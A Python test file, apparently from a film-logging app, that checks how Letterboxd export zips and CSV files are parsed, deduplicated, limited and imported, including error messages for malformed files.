def test_a_letterboxd_export_zip_brings_the_whole_history_and_nothing_twice() -> None:
    file = imports.read_file("letterboxd-ana-2024.zip", _zip(LETTERBOXD_EXPORT))
    assert file.format == importers.LETTERBOXD
    assert [(r.title, r.status, r.rating, r.consumed_on, r.review, r.where) for r in file.rows] == [
        # Every diary line, its review from reviews.csv (by URI; Paprika's by title, year and day).
        ("Dune", "finished", 9, date(2024, 4, 1), f"Sand. {XSS}", "diary.csv, line 2"),
        ("Stalker", "finished", None, date(2024, 4, 8), "", "diary.csv, line 3"),
        # Stalker's rating (ratings.csv) goes on its latest viewing; Dune keeps its diary's 4.5.
        ("Stalker", "finished", 10, date(2024, 5, 8), "", "diary.csv, line 4"),
        ("Paprika", "finished", 8, date(2024, 5, 10), "Dreams.", "diary.csv, line 5"),
        # A review with no diary line and no watched date: undated, and Heat is not in again from watched.csv.
        ("Heat", "finished", 8, None, "Great.", "reviews.csv, line 4"),
        # Watched without a diary entry: undated, rated from ratings.csv (matched by URI).
        ("The Thing", "finished", 8, None, "", "watched.csv, line 6"),
        ("Playtime", "finished", None, None, "", "watched.csv, line 7"),
        # Rated and never marked watched: watched.
        ("Alien", "finished", 7, None, "", "ratings.csv, line 5"),
        # The watchlist but for films watched (Alien by URI, Dune by title and year).
        ("Solaris", "want", None, None, "", "watchlist.csv, line 2"),
    ]
    # The film's URI, not the viewing's: the diary line takes it from watched.csv.
    assert [r.external_ids for r in file.rows[:2]] == [{"letterboxd": "https://boxd.it/f1"}] + [
        {"letterboxd": "https://boxd.it/f2"}
    ]
    assert file.problems == ["watched.csv, line 8: no title."]
    assert [(found.title, len(found.items)) for found in file.lists] == [("Slow cinema", 2)]
    assert file.summary() == (
        "Letterboxd: 9 to import (9 movies), and 1 list (2 items). "
        "4 from the diary, 4 watched without a diary entry, 1 on the watchlist."
    )
    # A diary alone reads as the diary file does, its lines named by the file.
    diary = imports.read_file("x.zip", _zip({"diary.csv": LETTERBOXD_DIARY}))
    alone = imports.read_file("diary.csv", LETTERBOXD_DIARY.encode())
    assert [(r.title, r.rating, r.consumed_on) for r in diary.rows] == [
        (r.title, r.rating, r.consumed_on) for r in alone.rows
    ]
    assert diary.problems == ["diary.csv, line 4: the rating '7' is not between 0.5 and 5 stars in halves."]
    assert diary.summary() == alone.summary() == "Letterboxd: 2 to import (2 movies)"


def test_a_letterboxd_zip_file_that_cannot_be_read_is_a_problem_and_the_rest_comes() -> None:
    export = dict(LETTERBOXD_EXPORT, **{"ratings.csv": "Título,Año\n".encode("latin-1"), "watchlist.csv": "a,b\n1,2\n"})
    file = imports.read_file("export.zip", _zip(export))
    assert file.problems == [
        "watched.csv, line 8: no title.",
        "ratings.csv: The file is not UTF-8 text. Export it again as CSV (UTF-8).",
        "watchlist.csv is not a Letterboxd export file: it has no Name, Year and Letterboxd URI columns.",
    ]
    assert [r.title for r in file.rows if r.consumed_on is None] == ["Heat", "The Thing", "Playtime"]
    # Files with their header alone (an empty diary or watchlist) are no problem; a zip of nothing else is refused.
    header = "Date,Name,Year,Letterboxd URI\n"
    lists_only = {
        "diary.csv": header,
        "watchlist.csv": header,
        "lists/a.csv": LETTERBOXD_EXPORT["lists/slow-cinema.csv"],
    }
    beside = imports.read_file("export.zip", _zip(lists_only))
    assert (beside.rows, beside.problems, len(beside.lists)) == ([], [], 1)
    with pytest.raises(ValidationError, match="The export has no films and no lists to import."):
        imports.read_file("export.zip", _zip({"diary.csv": header, "watchlist.csv": ""}))


def test_past_max_rows_a_letterboxd_zip_leaves_out_the_last_with_a_word(monkeypatch) -> None:
    monkeypatch.setattr(letterboxd, "MAX_ROWS", 8)
    file = imports.read_file("export.zip", _zip(LETTERBOXD_EXPORT))
    assert [r.title for r in file.rows][-1] == "Alien"
    assert file.summary().endswith(
        "(8 movies), and 1 list (2 items). 4 from the diary, 4 watched without a diary entry."
    )
    assert file.problems[-1] == (
        "1 film was left out: one import takes at most 8 lines, the diary first, then the films watched "
        "without a diary entry, then the watchlist. Choose watchlist.csv from the zip on its own to import "
        "the rest of your watchlist."
    )
    monkeypatch.setattr(letterboxd, "MAX_ROWS", 5)
    file = imports.read_file("export.zip", _zip(LETTERBOXD_EXPORT))
    assert len(file.rows) == 5
    assert file.problems[-1].startswith("4 films were left out: one import takes at most 5 lines")
    assert file.problems[-1].endswith("The first left out: “The Thing” (watched.csv, line 6).")


def test_a_letterboxd_zip_logs_its_history_and_a_second_import_changes_nothing(session) -> None:
    ana = make_user(session, "boxdwatcher")
    export = _zip(LETTERBOXD_EXPORT)
    file = imports.read_file("letterboxd.zip", export)
    result = imports.run_import(session=session, user=ana, rows=file.rows, lists=file.lists, visibility="public")
    assert (result.imported, result.new_items, result.already_logged, result.problems) == (9, 8, 0, [])
    assert result.lists_imported == 1

    def logged() -> list[tuple]:
        found = session.exec(
            select(Item.title, Entry.status, Entry.rating, Entry.consumed_on, Entry.review)
            .join(Item, Item.id == Entry.item_id)
            .where(Entry.user_id == ana.id)
        ).all()
        return sorted(found, key=lambda e: (e[0], e[3] or date.min))

    assert logged() == [
        ("Alien", "finished", 7, None, ""),
        ("Dune", "finished", 9, date(2024, 4, 1), f"Sand. {XSS}"),
        ("Heat", "finished", 8, None, "Great."),
        ("Paprika", "finished", 8, date(2024, 5, 10), "Dreams."),
        ("Playtime", "finished", None, None, ""),
        ("Solaris", "want", None, None, ""),
        ("Stalker", "finished", None, date(2024, 4, 8), ""),
        ("Stalker", "finished", 10, date(2024, 5, 8), ""),
        ("The Thing", "finished", 8, None, ""),
    ]
    dune = session.exec(select(Item).where(Item.title == "Dune")).one()
    assert dune.external_ids == {"letterboxd": "https://boxd.it/f1"}
    before = logged()

    again_file = imports.read_file("letterboxd.zip", export)
    again = imports.run_import(
        session=session, user=ana, rows=again_file.rows, lists=again_file.lists, visibility="public"
    )
    assert (again.imported, again.new_items, again.already_logged, again.problems) == (0, 0, 9, [])
    assert (again.lists_imported, again.lists_unchanged) == (0, 1)
    assert logged() == before

    # A later export whose diary has Playtime, imported before as watched without a date: that
    # viewing is logged, dated, beside the undated entry; the rest stays as it was.
    later = dict(LETTERBOXD_EXPORT)
    later["diary.csv"] += "2024-07-02,Playtime,1967,https://boxd.it/v5,4,,,2024-07-01\n"
    later_file = imports.read_file("letterboxd.zip", _zip(later))
    third = imports.run_import(session=session, user=ana, rows=later_file.rows, visibility="public")
    assert (third.imported, third.new_items, third.already_logged) == (1, 0, 8)
    assert sorted(set(logged()) - set(before)) == [("Playtime", "finished", 8, date(2024, 7, 1), "")]


def test_letterboxd_watched_or_ratings_on_their_own_are_undated_as_in_the_zip() -> None:
    watched = "Date,Name,Year,Letterboxd URI\n2024-03-01,Playtime,1967,https://boxd.it/play\n"
    ratings = "Date,Name,Year,Letterboxd URI,Rating\n2024-03-02,Alien,1979,https://boxd.it/alien,3.5\n"
    diary = "Date,Name,Year,Letterboxd URI,Rating,Rewatch,Tags,Watched Date\n2024-03-03,Heat,1995,https://boxd.it/v1,4,,,2024-03-01\n"
    by_name = {
        name: imports.read_file(name, text.encode()).rows[0]
        for name, text in [("watched.csv", watched), ("ratings.csv", ratings), ("diary.csv", diary)]
    }
    assert [(r.title, r.status, r.rating, r.consumed_on) for r in by_name.values()] == [
        ("Playtime", "finished", None, None),
        ("Alien", "finished", 7, None),
        ("Heat", "finished", 8, date(2024, 3, 1)),
    ]
